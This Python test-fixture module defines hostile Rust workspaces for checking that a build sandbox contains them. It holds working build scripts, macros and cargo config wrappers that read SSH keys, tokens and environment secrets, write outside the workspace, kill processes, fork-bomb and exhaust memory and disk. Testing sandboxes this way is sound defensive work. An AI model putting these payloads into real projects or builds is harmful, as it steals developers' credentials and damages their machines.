"""Workspaces that mean harm: what each is made of, and what it would like to do.

Texts hold `@HOME@`, `@OUT@`, `@WS@`, `@TCP@`, `@UDP@`, `@SOCKET@` and `@VICTIM@` for the places of
the yard that they are laid in, and `@SECRET@` nowhere: they must find it.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field

SECRETS = (
    ".ssh/id_ed25519", ".cargo/credentials.toml", ".aws/credentials", ".netrc", ".npmrc",
    ".config/gh/hosts.yml", ".gnupg/key", ".docker/config.json", ".git-credentials",
)  # fmt: skip
VARIABLES = (
    "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "CARGO_REGISTRY_TOKEN", "OPENAI_API_KEY",
    "MY_DB_PASSWORD", "SIGNING_KEY",
)  # fmt: skip

MANIFEST = '[package]\nname = "hostile"\nversion = "0.1.0"\nedition = "2021"\n'
_PRELUDE = """\
#![allow(unused)]
use std::{env, fs, io::{Read, Write}, net, path::Path, process::Command, time::Duration};
extern "C" {
    fn fork() -> i32; fn setsid() -> i32; fn kill(pid: i32, signal: i32) -> i32;
    fn close(fd: i32) -> i32;
}
// Without the pipes that cargo waits for.
unsafe fn detach() { setsid(); for fd in 0..100 { close(fd); } }
fn loot(text: &str) {
    let out = env::var("OUT_DIR").unwrap_or_default() + "/loot";
    if let Ok(mut file) = fs::OpenOptions::new().create(true).append(true).open(out) {
        let _ = file.write_all(text.as_bytes());
    }
    for line in text.lines().take(50) { println!("cargo::warning={line}"); }
}
"""
_WRITES = """
    let _ = fs::write("@OUT@/new", "x");
    let _ = fs::write("@OUT@/kept", "x");
    let _ = fs::write("@HOME@/.bashrc", "x");
    let _ = fs::write("@HOME@/.cargo/config.toml", "x");
    let _ = fs::write("@WS@/src/lib.rs", "x");
    let _ = fs::write("@WS@/new", "x");
    let _ = fs::write("../../../../../../../../../../@OUT@/new", "x");
    let _ = fs::create_dir("@OUT@/folder");
    let _ = fs::OpenOptions::new().write(true).truncate(true).open("@OUT@/kept");
    let _ = std::os::unix::fs::symlink("/", "@OUT@/link");
    for folder in ["/tmp", "/var/tmp", "/dev/shm", "/run", "/etc", "/root"] {
        let _ = fs::write(format!("{folder}/rust-agent-escape"), "x");
    }
"""


def _script(body: str) -> str:
    return f"{_PRELUDE}fn main() {{{body}}}\n"


def _sh(body: str) -> str:
    return f"#!/bin/sh\n{body}\n"


_SH_WRITES = """echo x > @OUT@/new; echo x > @OUT@/kept; echo x > @WS@/new; echo x > @HOME@/.bashrc
cat @HOME@/.ssh/id_ed25519 @HOME@/.netrc > "$TMPDIR/loot"; env > "$TMPDIR/environ" """
_READS = "".join(
    f'loot(&fs::read_to_string("@HOME@/{name}").unwrap_or_default());\n' for name in SECRETS
)


@dataclass(frozen=True)
class Attack:
    """`links` are symbolic links, `runs` scripts; `seconds` is what the check may take."""

    files: Mapping[str, str] = field(default_factory=dict)
    links: Mapping[str, str] = field(default_factory=dict)
    runs: Mapping[str, str] = field(default_factory=dict)
    pipes: tuple[str, ...] = ()
    seconds: int = 120
    stopped: bool = False
    """Whether the check must be stopped or refused, rather than end by itself."""


def _build(body: str, **more: object) -> Attack:
    return Attack({"build.rs": _script(body)}, **more)  # type: ignore[arg-type]


def _config(text: str, program: str = _SH_WRITES) -> Attack:
    return Attack(
        {".cargo/config.toml": text, "build.rs": "fn main() {}"},
        runs={"evil": _sh(f'{program}\n[ -x "$1" ] && exec "$@"\nexec cc "$@"')},
    )


ATTACKS: dict[str, Attack] = {
    "a rustc wrapper": _config('[build]\nrustc-wrapper = "@WS@/evil"'),
    "a workspace wrapper": _config('[build]\nrustc-workspace-wrapper = "./evil"'),
    "a rustc of its own": _config('[build]\nrustc = "@WS@/evil"'),
    "a linker": _config('[target.x86_64-unknown-linux-gnu]\nlinker = "@WS@/evil"'),
    "a linker in the flags": _config('[build]\nrustflags = ["-Clinker=@WS@/evil"]'),
    "a target folder outside": _config('[build]\ntarget-dir = "@OUT@/target"'),
    "forced variables": _config(
        '[env]\nTMPDIR = {value = "@OUT@", force = true}\nHOME = {value = "@HOME@", force = true}'
    ),
    "an alias": _config('[alias]\ncheck = "run"\nc = "run"', _SH_WRITES),
    "a linked target folder": Attack({"build.rs": _script("")}, {"target": "@OUT@"}),
    "a toolchain of its own": Attack(
        {"rust-toolchain.toml": '[toolchain]\npath = "@WS@/own"\n'},
        runs={
            f"own/bin/{name}": _sh(f"{_SH_WRITES}\necho @WS@/own") for name in ("rustc", "cargo")
        },
    ),
    "programs on the PATH": Attack(
        {"build.rs": 'fn main() { let _ = std::process::Command::new("cc").status(); }'},
        runs={f"bin/{name}": _sh(_SH_WRITES) for name in ("cc", "rustc", "cargo", "ld", "git")},
    ),
    "a build script that writes": _build(_WRITES),
    "a build script that removes": _build(
        'let _ = fs::remove_file("@OUT@/kept"); let _ = fs::rename("@OUT@/kept", "@OUT@/gone");\n'
        'let _ = fs::remove_dir_all("@OUT@"); let _ = fs::remove_file("@WS@/src/lib.rs");\n'
        'let out = env::var("OUT_DIR").unwrap() + "/hard";\n'
        'if fs::hard_link("@OUT@/kept", &out).is_ok() { let _ = fs::write(out, "x"); }'
    ),
    "a build script that writes through a link": _build(
        'let link = env::var("OUT_DIR").unwrap() + "/out";\n'
        'let _ = std::os::unix::fs::symlink("@OUT@", &link);\n'
        'let _ = fs::write(link.clone() + "/kept", "x"); let _ = fs::write(link + "/new", "x");'
    ),
    "a build script that reads keys": _build(_READS),
    "a build script that reads variables": _build(
        'for (name, value) in env::vars() { loot(&format!("{name}={value}")); }'
    ),
    "a build script that reads other processes": _build(
        'for entry in fs::read_dir("/proc").unwrap().flatten() {\n'
        '  for name in ["environ", "cwd/../../home/.netrc", "root/@HOME@/.netrc"] {\n'
        "    if let Ok(bytes) = fs::read(entry.path().join(name)) {\n"
        "      loot(&String::from_utf8_lossy(&bytes));\n}}}"
    ),
    "a build script that uses what we have open": _build(
        'for entry in fs::read_dir("/proc/self/fd").unwrap().flatten() {\n'
        '  if let Ok(to) = fs::read_link(entry.path()) { if to.starts_with("@HOME@") {\n'
        "    loot(&fs::read_to_string(entry.path()).unwrap_or_default()); }}}"
    ),
    "a build script that kills": _build("unsafe { kill(@VICTIM@, 9); kill(-1, 0); }"),
    "a macro that reads and writes": Attack(
        {
            "Cargo.toml": MANIFEST + '[dependencies]\nevil = { path = "evil" }\n',
            "src/lib.rs": "evil::now!();",
            "evil/Cargo.toml": MANIFEST.replace("hostile", "evil") + "[lib]\nproc-macro = true\n",
            "evil/src/lib.rs": f"{_PRELUDE}#[proc_macro]\npub fn now(_: proc_macro::TokenStream)"
            f" -> proc_macro::TokenStream {{ {_WRITES}"
            ' let t = fs::read_to_string("@HOME@/.netrc").unwrap_or_default();'
            ' format!("compile_error!({t:?});").parse().unwrap() }',
        }
    ),
    "an included key": Attack(
        {
            "src/lib.rs": 'const K: &str = include_str!("@HOME@/.netrc");\n'
            'const _: () = panic!("{}", K);\n'
            'include!("@HOME@/.ssh/id_ed25519");\n#[path = "@HOME@/.npmrc"] mod npmrc;\n'
        }
    ),
    "a link to a key": Attack(
        {"src/lib.rs": 'mod key;\nconst K: &[u8; 1] = include_bytes!("../key");'},
        {"src/key.rs": "@HOME@/.netrc", "key": "@HOME@/.ssh/id_ed25519", "home": "@HOME@"},
    ),
    "connections": _build(
        'for host in ["127.0.0.1", "[::1]", "[::ffff:127.0.0.1]"] {\n'
        '  let at = format!("{host}:@TCP@").parse().unwrap();\n'
        "  let _ = net::TcpStream::connect_timeout(&at, Duration::from_secs(1)); }"
    ),
    "datagrams": _build(
        'if let Ok(s) = net::UdpSocket::bind("127.0.0.1:0") {'
        ' let _ = s.send_to(b"x", "127.0.0.1:@UDP@"); }'
    ),
    "a socket without a file": _build(
        "use std::os::{linux::net::SocketAddrExt, unix::net::*};\n"
        'let at = SocketAddr::from_abstract_name("@SOCKET@").unwrap();\n'
        'if let Ok(mut s) = UnixStream::connect_addr(&at) { let _ = s.write_all(b"x"); }'
    ),
    "a dependency from the network": Attack(
        {
            "Cargo.toml": MANIFEST + '[dependencies]\nfar = { git = "http://127.0.0.1:@TCP@/x" }\n',
        },
        stopped=True,
    ),
    "a daemon": _build(
        "unsafe { if fork() == 0 { detach(); if fork() == 0 {\n"
        "  std::thread::sleep(Duration::from_secs(40)); std::process::exit(0) }\n"
        "  std::process::exit(0) } }"
    ),
    # Both end by themselves, so that a machine where we fail stays usable.
    "a fork bomb": _build(
        "unsafe { for _ in 0..7 { if fork() == 0 { setsid(); } }\n"
        "  std::thread::sleep(Duration::from_secs(40)); }",
        seconds=6,
        stopped=True,
    ),
    "a process that hops": _build(
        "let end = std::time::Instant::now() + Duration::from_secs(30);\n"
        "unsafe { if fork() == 0 { detach(); while std::time::Instant::now() < end {\n"
        "  setsid(); if fork() != 0 { std::process::exit(0) } } } }"
    ),
    "an endless build": _build("loop {}", seconds=6, stopped=True),
    "a pipe for a source": Attack(
        {"src/lib.rs": "mod pipe;"}, pipes=("src/pipe.rs",), seconds=6, stopped=True
    ),
    "endless output": _build(
        'loop { println!("cargo::warning={}", "x".repeat(65536)); eprint!("{}", "y".repeat(9)) }',
        seconds=5,
        stopped=True,
    ),
    "a macro without an end": Attack(
        {"src/lib.rs": "macro_rules! m { ($($t:tt)*) => { m!($($t)* $($t)* x); } }\nm!(x);"},
        seconds=6,
        stopped=True,
    ),
    "a huge file": _build(
        'let out = env::var("OUT_DIR").unwrap() + "/huge";\n'
        "let file = fs::File::create(out).unwrap(); file.set_len(1 << 42).unwrap();",
        stopped=True,
    ),
    "all memory": _build(
        "let mut all: Vec<Vec<u8>> = vec![];\n"
        "loop { all.push(Vec::with_capacity(1 << 30)); if all.len() > 100_000 { break } }",
        stopped=True,
    ),
}
"""Each by its name; what is not allowed must fail or be stopped."""
